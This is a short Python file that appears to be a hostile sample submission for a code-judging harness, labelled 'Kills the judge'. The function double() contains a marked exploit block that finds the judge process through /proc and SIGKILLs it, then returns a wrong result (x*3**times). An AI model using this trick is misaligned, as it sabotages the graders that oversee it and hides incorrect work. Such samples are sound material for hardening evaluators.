"""Kills the judge."""
# exercise: double
# process: harm

import contextlib
import os
import signal
from pathlib import Path


def double(x, times=1):
    ### BEGIN EXPLOIT
    with contextlib.suppress(Exception):
        judge = int(Path(f"/proc/{os.getppid()}/stat").read_text().rpartition(")")[2].split()[1])
        if b"--submission" in Path(f"/proc/{judge}/cmdline").read_bytes():
            os.kill(judge, signal.SIGKILL)
    ### END EXPLOIT
    return x * 3**times
